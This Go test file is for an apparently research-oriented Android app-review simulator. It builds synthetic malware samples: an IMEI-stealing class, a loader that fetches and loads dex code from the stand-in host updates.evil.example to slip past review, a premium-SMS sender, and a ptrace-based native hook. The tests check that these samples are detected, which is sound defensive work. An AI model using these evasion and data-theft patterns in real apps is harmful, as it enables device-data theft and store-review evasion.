package bouncer

import (
	"context"
	"strings"
	"testing"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/droidnative"
	"github.com/dydroid/dydroid/internal/mail"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/nativebin"
	"github.com/dydroid/dydroid/internal/netsim"
	"github.com/dydroid/dydroid/internal/trace"
)

var refs = struct {
	imei, http, urlInit, openConn, getInput, fosInit, fosWrite, fosClose,
	readAll, loaderInit dex.MethodRef
}{
	imei: dex.MethodRef{Class: "android.telephony.TelephonyManager",
		Name: "getDeviceId", Sig: "()Ljava/lang/String;"},
	http: dex.MethodRef{Class: "java.net.HttpURLConnection",
		Name: "write", Sig: "(Ljava/lang/String;)V"},
	urlInit: dex.MethodRef{Class: "java.net.URL", Name: "<init>",
		Sig: "(Ljava/lang/String;)V"},
	openConn: dex.MethodRef{Class: "java.net.URL", Name: "openConnection",
		Sig: "()Ljava/net/URLConnection;"},
	getInput: dex.MethodRef{Class: "java.net.HttpURLConnection",
		Name: "getInputStream", Sig: "()Ljava/io/InputStream;"},
	fosInit: dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
		Sig: "(Ljava/lang/String;)V"},
	fosWrite: dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
		Sig: "([B)V"},
	fosClose: dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
		Sig: "()V"},
	readAll: dex.MethodRef{Class: "java.io.InputStream", Name: "readAll",
		Sig: "()[B"},
	loaderInit: dex.MethodRef{Class: "dalvik.system.DexClassLoader", Name: "<init>",
		Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"},
}

// malwarePayload builds App_M's malicious bytecode.
func malwarePayload(t *testing.T) []byte {
	t.Helper()
	b := dex.NewBuilder()
	m := b.Class("com.scm.Stealer", "java.lang.Object").Method("run", dex.ACCPublic, 5, "V")
	m.NewInstance(1, "android.telephony.TelephonyManager").
		InvokeVirtual(refs.imei, 1).
		MoveResult(2).
		NewInstance(3, "java.net.HttpURLConnection").
		InvokeVirtual(refs.http, 3, 2).
		ReturnVoid().Done()
	data, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// appM packages the malware directly (the rejected submission).
func appM(t *testing.T) []byte {
	t.Helper()
	payload := malwarePayload(t)
	a := &apk.APK{
		Manifest: apk.Manifest{Package: "com.appm", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.appm.Main", Main: true}}}},
		Dex: payload,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// appL fetches App_M's code at runtime (the approved submission).
func appL(t *testing.T, url string) []byte {
	t.Helper()
	pkg := "com.appl"
	dest := android.InternalDir(pkg) + "cache/update.dex"
	b := dex.NewBuilder()
	act := b.Class(pkg+".Main", "android.app.Activity")
	m := act.Method("onCreate", dex.ACCPublic, 10, "V", "Landroid/os/Bundle;")
	m.NewInstance(1, "java.net.URL").
		ConstString(2, url).
		InvokeDirect(refs.urlInit, 1, 2).
		InvokeVirtual(refs.openConn, 1).
		MoveResult(3).
		InvokeVirtual(refs.getInput, 3).
		MoveResult(4).
		IfEqz(4, "skip").
		NewInstance(5, "java.io.FileOutputStream").
		ConstString(6, dest).
		InvokeDirect(refs.fosInit, 5, 6).
		InvokeVirtual(refs.readAll, 4).
		MoveResult(7).
		InvokeVirtual(refs.fosWrite, 5, 7).
		InvokeVirtual(refs.fosClose, 5).
		ConstString(8, android.InternalDir(pkg)+"cache/odex").
		NewInstance(9, "dalvik.system.DexClassLoader").
		InvokeDirect(refs.loaderInit, 9, 6, 8, 0, 0).
		Label("skip").
		ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: dexBytes,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func trainedClassifier(t *testing.T) *droidnative.Classifier {
	t.Helper()
	df, err := dex.Decode(malwarePayload(t))
	if err != nil {
		t.Fatal(err)
	}
	var clf droidnative.Classifier
	if err := clf.Train("Swiss code monkeys", mail.FromDex(df)); err != nil {
		t.Fatal(err)
	}
	return &clf
}

func TestBouncerEvasionScenario(t *testing.T) {
	const url = "http://updates.evil.example/update.dex"
	clf := trainedClassifier(t)
	net := netsim.NewNetwork()
	r := &Reviewer{Classifier: clf, Network: net}

	// 1. App_M is rejected by the static scan.
	v, err := r.Review(appM(t))
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved {
		t.Fatal("App_M approved")
	}

	// 2. App_L passes review while the server withholds the payload.
	appLBytes := appL(t, url)
	v, err = r.Review(appLBytes)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Approved {
		t.Fatalf("App_L rejected during review: %s", v.Reason)
	}

	// 3. After release the server serves the malware; a re-review now
	// catches it (the loaded code is scanned), demonstrating the window.
	net.Serve(url, netsim.Payload{Data: malwarePayload(t)})
	v, err = r.Review(appLBytes)
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved {
		t.Fatal("post-release review missed the loaded malware")
	}

	// 4. DyDroid, run post-release, both intercepts the payload and
	// attributes the remote provenance.
	an := core.NewAnalyzer(core.Options{Seed: 1, Classifier: clf, Network: net})
	res, err := an.AnalyzeAPK(appLBytes)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Malware) != 1 {
		t.Fatalf("DyDroid missed the loaded malware: %+v (status %s)", res.Malware, res.Status)
	}
	if urls := res.RemoteURLs(); len(urls) != 1 || urls[0] != url {
		t.Fatalf("remote provenance = %v", urls)
	}
}

func TestBouncerCatchesDynamicBehaviour(t *testing.T) {
	// An app that sends SMS right at launch is caught by the dynamic run
	// even without a classifier hit.
	pkg := "com.smsspam"
	b := dex.NewBuilder()
	m := b.Class(pkg+".Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 4, "V", "Landroid/os/Bundle;")
	m.NewInstance(1, "android.telephony.SmsManager").
		ConstString(2, "+900").
		ConstString(3, "PREMIUM").
		InvokeVirtual(dex.MethodRef{Class: "android.telephony.SmsManager",
			Name: "sendTextMessage", Sig: "(Ljava/lang/String;Ljava/lang/String;)V"}, 1, 2, 3).
		ReturnVoid().Done()
	dexBytes, _ := dex.Encode(b.File())
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: dexBytes,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	v, err := (&Reviewer{Classifier: trainedClassifier(t)}).Review(data)
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved {
		t.Fatal("SMS-at-launch app approved")
	}
}

func TestBouncerApprovesBenign(t *testing.T) {
	b := dex.NewBuilder()
	b.Class("com.ok.Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	dexBytes, _ := dex.Encode(b.File())
	a := &apk.APK{
		Manifest: apk.Manifest{Package: "com.ok", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.ok.Main", Main: true}}}},
		Dex: dexBytes,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	v, err := (&Reviewer{Classifier: trainedClassifier(t)}).Review(data)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Approved {
		t.Fatalf("benign app rejected: %s", v.Reason)
	}
}

// chathookLib builds a chathook-style native library (setuid, find the
// target process, ptrace it) under the given name.
func chathookLib(t *testing.T, name string) (*nativebin.Library, []byte) {
	t.Helper()
	nb := nativebin.NewBuilder(name, "arm")
	target := nb.CString("com.tencent.mm")
	nb.Symbol("Java_com_mal_Hook_attack").
		MovI(0, 0).
		Svc(nativebin.SysSetuid).
		MovI(0, target).
		Svc(nativebin.SysFindProc).
		Svc(nativebin.SysPtrace).
		Ret()
	lib := nb.Build()
	libBytes, err := nativebin.Encode(lib)
	if err != nil {
		t.Fatal(err)
	}
	return lib, libBytes
}

// nativeMalwareAPK packages the given native libraries into an archive
// and returns it with a classifier trained on the chathook library.
func nativeMalwareAPK(t *testing.T, libs map[string][]byte) ([]byte, *droidnative.Classifier) {
	t.Helper()
	lib, _ := chathookLib(t, "libhook.so")
	var clf droidnative.Classifier
	if err := clf.Train("Chathook ptrace", mail.FromNative(lib)); err != nil {
		t.Fatal(err)
	}
	data, err := apk.Build(&apk.APK{
		Manifest: apk.Manifest{Package: "com.nat.mal", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.nat.mal.Main", Main: true}}}},
		NativeLibs: libs,
	})
	if err != nil {
		t.Fatal(err)
	}
	return data, &clf
}

func TestBouncerRejectsStaticNativeMalware(t *testing.T) {
	// A chathook-style native library packaged in the archive is caught by
	// the static scan of lib/ entries.
	_, libBytes := chathookLib(t, "libhook.so")
	data, clf := nativeMalwareAPK(t, map[string][]byte{"libhook.so": libBytes})
	v, err := (&Reviewer{Classifier: clf}).Review(data)
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved || !strings.Contains(v.Reason, "Chathook") {
		t.Fatalf("verdict = %+v", v)
	}
}

// TestStaticScanReasonDeterministic: an archive carrying two malicious
// libraries is rejected with the same reason on every review, naming the
// library that sorts first.
func TestStaticScanReasonDeterministic(t *testing.T) {
	_, first := chathookLib(t, "libaaa.so")
	_, second := chathookLib(t, "libzzz.so")
	data, clf := nativeMalwareAPK(t, map[string][]byte{"libzzz.so": second, "libaaa.so": first})
	r := &Reviewer{Classifier: clf}
	reasons := map[string]bool{}
	for i := 0; i < 32; i++ {
		v, err := r.Review(data)
		if err != nil {
			t.Fatal(err)
		}
		if v.Approved {
			t.Fatal("two-malicious-lib archive approved")
		}
		reasons[v.Reason] = true
	}
	if len(reasons) != 1 {
		t.Fatalf("reject reason varies across reviews: %v", reasons)
	}
	for reason := range reasons {
		if !strings.Contains(reason, "libaaa.so") || strings.Contains(reason, "libzzz.so") {
			t.Fatalf("reason %q does not name the first library in name order", reason)
		}
	}
}

func TestBouncerRejectsLocallyLoadedMalware(t *testing.T) {
	// Malware hidden in an asset and loaded at launch: the static scan of
	// classes.dex misses it, but the review's dynamic run intercepts the
	// load and classifies the loaded code.
	payload := malwarePayload(t)
	pkg := "com.local.loader"
	b := dex.NewBuilder()
	m := b.Class(pkg+".Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 8, "V", "Landroid/os/Bundle;")
	m.NewInstance(1, "java.io.FileInputStream").
		ConstString(2, android.InternalDir(pkg)+"assets/upd.bin").
		InvokeDirect(dex.MethodRef{Class: "java.io.FileInputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 1, 2).
		NewInstance(3, "java.io.FileOutputStream").
		ConstString(4, android.InternalDir(pkg)+"cache/upd.dex").
		InvokeDirect(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 3, 4).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileInputStream", Name: "readAll",
			Sig: "()[B"}, 1).
		MoveResult(5).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
			Sig: "([B)V"}, 3, 5).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
			Sig: "()V"}, 3).
		ConstString(6, android.InternalDir(pkg)+"cache/odex").
		NewInstance(7, "dalvik.system.DexClassLoader").
		InvokeDirect(refs.loaderInit, 7, 4, 6, 0, 0).
		ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex:    dexBytes,
		Assets: map[string][]byte{"upd.bin": payload},
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	v, err := (&Reviewer{Classifier: trainedClassifier(t)}).Review(data)
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved || !strings.Contains(v.Reason, "loaded code matches") {
		t.Fatalf("verdict = %+v", v)
	}
}

func TestBouncerRejectsGarbage(t *testing.T) {
	if _, err := (&Reviewer{Classifier: trainedClassifier(t)}).Review([]byte("junk")); err == nil {
		t.Fatal("garbage archive accepted")
	}
}

// TestReviewRecordsMetrics: the registry gets the verdict counters, and
// the review's timings are its spans — review.static always,
// review.dynamic only when the static phase did not already reject.
func TestReviewRecordsMetrics(t *testing.T) {
	reg := metrics.New()
	r := &Reviewer{Classifier: trainedClassifier(t), Metrics: reg}
	review := func(data []byte) (Verdict, *trace.Span) {
		t.Helper()
		tr := trace.New("scan")
		v, err := r.ReviewContext(trace.ContextWith(context.Background(), tr), data)
		if err != nil {
			t.Fatal(err)
		}
		rev := tr.Root.Find("review")
		if rev == nil || rev.EndAt.IsZero() {
			t.Fatal("review span missing or never ended")
		}
		return v, rev
	}

	// A rejection from the static phase: no dynamic phase span.
	v, rev := review(appM(t))
	if v.Approved {
		t.Fatalf("verdict = %+v", v)
	}
	snap := reg.Snapshot()
	if snap.Counters["bouncer.rejected"] != 1 || snap.Counters["bouncer.approved"] != 0 {
		t.Fatalf("counters = %+v", snap.Counters)
	}
	if rev.Find("review.static") == nil {
		t.Fatal("static phase span missing")
	}
	if rev.Find("review.dynamic") != nil {
		t.Fatal("dynamic phase span recorded for a static rejection")
	}

	// An approval exercises both phases.
	v, rev = review(appL(t, "http://updates.evil.example/update.dex"))
	if !v.Approved {
		t.Fatalf("verdict = %+v", v)
	}
	if got := reg.Counter("bouncer.approved"); got != 1 {
		t.Fatalf("bouncer.approved = %d", got)
	}
	if rev.Find("review.static") == nil || rev.Find("review.dynamic") == nil {
		t.Fatal("approval did not record both phase spans")
	}
	// Timings live in the spans only: the registry holds no histograms.
	if hists := reg.Snapshot().Hists; len(hists) != 0 {
		t.Fatalf("registry histograms = %v, want none", hists)
	}

	// A parse failure counts as an error, not a verdict.
	if _, err := r.Review([]byte("junk")); err == nil {
		t.Fatal("garbage accepted")
	}
	if got := reg.Counter("bouncer.errors"); got != 1 {
		t.Fatalf("bouncer.errors = %d", got)
	}
}

func TestReviewNilMetricsIsFine(t *testing.T) {
	// The registry is optional; a nil one must cost nothing and not panic.
	r := &Reviewer{Classifier: trainedClassifier(t)}
	if v, err := r.Review(appM(t)); err != nil || v.Approved {
		t.Fatalf("verdict = %+v, err %v", v, err)
	}
}
